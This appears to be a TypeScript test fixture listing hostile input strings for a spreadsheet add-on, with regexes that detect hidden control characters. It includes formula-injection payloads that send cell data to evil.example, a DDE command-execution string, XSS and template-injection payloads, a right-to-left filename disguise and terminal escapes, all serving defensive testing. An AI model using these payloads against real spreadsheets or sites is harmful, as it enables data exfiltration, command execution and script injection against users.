/** Texts that try to be something else than text, by what they try. */
export const hostileTexts: Readonly<Record<string, string>> = {
  formula: '=IMPORTXML("https://evil.example/"&A1,"//x")',
  plus: "+cmd|' /C calc'!A0",
  minus: '-1+1',
  at: '@SUM(A1:A9)',
  tab: '\t=1+1',
  return: '\r=1+1',
  fullWidth: '＝1+1',
  apostrophe: "'=1+1",
  apostrophes: "''=1+1",
  space: ' =1+1',
  noBreakSpace: '\u00a0=1+1',
  zeroWidth: '\u200b=1+1',
  byteOrder: '\ufeff=1+1',
  quotes: '"),IMPORTDATA("https://evil.example")&("',
  image: '<img src=x onerror=alert(1)>',
  script: '</script><script>alert(1)</script>',
  template: '{{constructor.constructor("alert(1)")()}} #{alert(1)}',
  address: 'javascript:alert(1)',
  rightToLeft: 'Báo cáo \u202egnp.exe\u202c \u2066x\u2069 \u200fy \u061c',
  controls: 'a\u0000b\u0007c\u001b[2J\u001b]0;x\u0007\u009b31m',
  lines: 'một\nhai\r\nba\u2028bốn\u2029năm',
  loneSurrogates: 'a\ud800b\udc00c',
  invisible: 'a\u3164b\u115fc\u2800d\u{e0041}\u{e0001}',
  marks: `e${'\u0301'.repeat(180)}`,
  longWord: 'x'.repeat(100),
  emoji: '👩🏽‍💻 🇻🇳 1️⃣',
  prototype: '__proto__',
  constructed: 'constructor',
  number: '1e309',
  date: '1/2/2025',
  truth: 'TRUE',
};

/** Signs that turn text around, hide in it, or reach a terminal. */
export const unseen = /[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;
/** As `unseen`, but for the line ends of a cell of several lines, and the tabs of the add-on's own hidden one. */
export const unseenInCell = /[^\P{Cc}\n\t]|[\p{Cf}\p{Cs}\u2028\u2029]/u;
